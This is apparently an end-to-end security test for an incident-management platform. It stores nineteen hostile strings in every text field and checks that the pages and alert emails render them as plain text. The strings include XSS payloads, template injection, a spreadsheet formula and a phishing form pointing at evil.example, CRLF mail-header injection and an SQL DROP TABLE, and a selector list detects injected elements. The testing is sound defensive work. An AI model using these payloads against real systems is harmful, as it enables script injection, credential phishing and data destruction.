"""Whoever may send an alert may write whatever they like into it, and names are typed by people: text stays text."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest
from dev_kit.platform import Platform
from dev_kit.processes import wait_until
from dev_kit.sinks.smtp import Mail, SmtpSink
from playwright.sync_api import Browser, Page, expect

pytestmark = [pytest.mark.e2e, pytest.mark.browser, pytest.mark.timeout(600)]

TEXTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "<svg/onload=alert(3)>",
    "javascript:alert(4)",
    "'\"--></style></title></script><script>alert(5)</script>",
    "<iframe src=javascript:alert(6)></iframe>",
    '<a href="javascript:alert(7)">click</a>',
    "[click](javascript:alert(8))",
    '![x](x"onerror=alert(9)//)',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(10)&gt;">',
    "]]><![CDATA[<script>alert(11)</script>",
    "{{constructor.constructor('alert(12)')()}} ${alert(12)} <%= 7 * 7 %>",
    '=HYPERLINK("http://evil.example";"click")',
    "x\r\nBcc: everybody@evil.example\r\n\r\n<script>alert(14)</script>",
    "%0d%0aSet-Cookie:%20session=evil",
    "invoice \u202egpj.exe\u202c \u200b\ufeff zero width",
    "NUL \x00 and \x1b[31mescape\x1b[0m and \x85 and \u2028",
    "'; DROP TABLE incidents.incidents; --",
    "<base href=//evil.example/><form action=//evil.example/><input name=password autofocus onfocus=alert(19)>",
)
GATHERED = "all of them"  # one incident that has every text as an alert of its own
PAGER = "pager-of-odd-things@example.org"
PAGES = (
    *("/incidents", "/incidents?tab=resolved", "/on-call", "/stats", "/services", "/escalation", "/people"),
    *("/notifications", "/settings", "/profile", "/drills", "/audit"),
)
SECONDS = 1_000.0
# What no text of anybody may bring onto a page.
BROUGHT_IN = (
    "iframe, object, embed, math, base, form[action], script:not([src]), a[href^='javascript:' i],"
    " [onerror], [onload], [onfocus], [onclick], a[href^='//evil'], a[href*='://evil'], img[src$='/x']"
)
WATCH = """
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + e.blockedURI));
"""
# Are these words, white space and control characters aside, on the page?
SHOWN = r"""(text) => document.body.textContent.replace(/[\s\ufffd\x00-\x1f\x7f-\x9f]+/g, ' ').includes(text)"""


def words(text: str) -> str:
    """The text as it is read: odd white space and control characters are not."""
    return " ".join(re.sub(r"[\x00-\x20\x7f-\x9f\u2028\u2029\ufeff\ufffd]+", " ", text).split())


@dataclass
class Reader(HTMLParser):
    """The tags, attributes and words of an HTML mail."""

    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    links: list[str] = field(default_factory=list)
    heard: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]

    def handle_data(self, data: str) -> None:
        self.heard.append(data)


@pytest.fixture(scope="module")
def incidents(running: Platform, admin: Callable[[str], httpx.Client]) -> dict[str, str]:
    """Each text in every field that takes text; the incident whose alert says it, by the text, and GATHERED."""
    oncall, intake, incident = (admin(s) for s in ("oncall-service", "alert-ingestion", "incident-management"))

    def said(client: httpx.Client, path: str, body: dict[str, Any], method: str = "POST") -> bool:
        answer = client.request(method, path, json=body)
        assert answer.is_success or answer.status_code == 422, (path, body, answer.text)
        return answer.is_success

    opened, refused = {}, 0
    far = {"starts_at": "2126-03-02T00:00:00Z", "ends_at": "2126-03-03T00:00:00Z"}
    for n, text in enumerate(TEXTS):
        team = text if said(oncall, "/api/v1/teams", {"name": text}) else f"team {n}"
        service = text if said(oncall, "/api/v1/services", {"name": text, "team": team}) else f"service {n}"
        refused += (team, service) != (text, text)
        members = [{"name": text, "email": PAGER}]
        assert said(oncall, "/api/v1/schedules", {"team": team, "members": members}) or said(
            oncall, "/api/v1/schedules", {"team": team, "members": [{"name": "P", "email": PAGER}]}
        )
        if service != text:
            assert said(oncall, "/api/v1/services", {"name": service, "team": team})
        said(oncall, "/api/v1/users", {"name": text, "email": f"odd-{n}@example.org", "role": "viewer"})
        said(oncall, "/api/v1/api-keys", {"name": text, "role": "viewer"})
        steps = [{"delay_seconds": 600, "targets": [{"type": "schedule", "team": team}]}]
        said(oncall, "/api/v1/escalation-policies", {"name": text, "team": team, "steps": steps})
        said(intake, "/api/v1/integrations", {"name": text, "source": "generic", "service": service})
        said(intake, "/api/v1/heartbeats", {"name": text, "service": service, "interval_seconds": 86400})
        said(intake, "/api/v1/silences", {"matchers": ["nothing=is so"], "reason": text, **far})
        said(intake, "/api/v1/maintenance-windows", {"services": [service], "reason": text, **far})
        alert = {"service": service, "severity": "critical", "message": text, "source": text, "labels": {"odd": text}}
        sent = running.send_alert(**alert)
        opened[text] = str(sent["incident_id"])
        said(incident, f"/api/v1/incidents/{sent['incident_id']}", {"note": text}, method="PATCH")
        gathered = running.send_alert(service="gathered", severity="low", message=text, labels={"odd": text})
        opened[GATHERED] = str(gathered["incident_id"])
        about = f"/api/v1/incidents/{gathered['incident_id']}"
        said(incident, f"{about}/action-items", {"title": text})
        so_far = {"content": "\n\n".join(TEXTS[: n + 1]), "version": n}
        assert said(incident, f"{about}/postmortem", so_far, method="PUT")
        said(oncall, "/api/v1/calendar-links", {"name": text})
        nowhere = {"url": "http://127.0.0.1:9/", "team": team, "events": ["escalated"]}
        said(incident, "/api/v1/subscriptions", {"name": text, **nowhere})
    assert refused <= 2, "only what holds control characters is refused as a name"
    return opened


@pytest.fixture
def page(browser: Browser, running: Platform) -> Iterator[Page]:
    context = browser.new_context(base_url=running.ui_url, viewport={"width": 1280, "height": 6000})
    context.add_init_script(WATCH)
    page = context.new_page()
    page.set_default_timeout(60 * SECONDS)
    yield page
    context.close()


def test_nineteen_hostile_texts_are_text_on_every_page(
    page: Page, running: Platform, incidents: dict[str, str]
) -> None:
    """No dialog, no report of the content security policy, nothing brought onto a page or asked of another origin; and
    an incident's page shows its alert's words as they were sent."""
    assert len(TEXTS) == 19
    happened: list[str] = []

    def dialog(opened: Any) -> None:
        happened.append(f"dialog: {opened.message}")
        opened.dismiss()

    def console(message: Any) -> None:
        if "Content Security Policy" in message.text:
            happened.append(message.text)

    page.on("dialog", dialog)
    page.on("console", console)
    page.on("pageerror", lambda error: happened.append(f"error: {error}"))
    page.on(
        "request",
        lambda r: happened.append(f"asked {r.url}") if not r.url.startswith((running.ui_url, "data:")) else None,
    )

    def look(path: str, *texts: str) -> None:
        page.goto(path)
        expect(page.locator("h1")).to_be_visible(timeout=60 * SECONDS)
        expect(page.locator("[aria-busy=true]")).to_have_count(0, timeout=60 * SECONDS)
        for text in texts:
            page.wait_for_function(SHOWN, arg=words(text), timeout=60 * SECONDS)
        happened.extend(f"{path}: {violation}" for violation in page.evaluate("window.violations"))
        if brought := page.locator(BROUGHT_IN).count():
            happened.append(f"{path}: {brought} elements were brought in")

    page.goto("/incidents")
    page.get_by_label("E-mail").fill(running.settings["ADMIN_EMAIL"])
    page.get_by_label("Password", exact=True).fill(running.settings["ADMIN_PASSWORD"])
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Incidents")).to_be_visible(timeout=60 * SECONDS)
    for path in PAGES:
        look(path)
    look("/incidents", *TEXTS)
    look(f"/incidents/{incidents[TEXTS[0]]}", TEXTS[0])
    look(f"/incidents/{incidents[GATHERED]}", *TEXTS)
    titles = filter(str.isprintable, TEXTS)  # a title holds no control characters
    look(f"/incidents/{incidents[GATHERED]}/postmortem", *titles)
    assert happened == []


def mail_about(mailbox: SmtpSink, text: str) -> Mail:
    def found() -> Mail | None:
        return next((mail for mail in mailbox.mails_to(PAGER) if words(text) in words(mail.text)), None)

    return wait_until(found, 60, f"a mail about {text!r}")


def test_nineteen_hostile_texts_are_text_in_every_mail(
    mailbox: SmtpSink, running: Platform, incidents: dict[str, str]
) -> None:
    """One recipient, no header but ours, and in both parts the words as they were sent."""
    for text in TEXTS:
        mail = mail_about(mailbox, text)
        assert mail.recipients == (PAGER,)
        assert not mail.message.defects
        assert [str(to) for to in mail.message.get_all("To", [])] == [PAGER]
        assert not {"bcc", "cc", "set-cookie", "reply-to"} & {name.lower() for name in mail.message}
        assert words(text) in words(mail.text)
        html = mail.message.get_body(preferencelist=("html",))
        assert html is not None
        reader = Reader()
        reader.feed(html.get_content())
        assert words(text) in words("".join(reader.heard))
        assert reader.tags <= {
            *("html", "head", "meta", "title", "body", "div", "h1", "p", "table", "tbody", "tr", "td", "a", "br"),
        }, text
        assert not [name for name in reader.attributes if name.startswith("on")]
        assert all(link.startswith(running.ui_url) for link in reader.links), reader.links
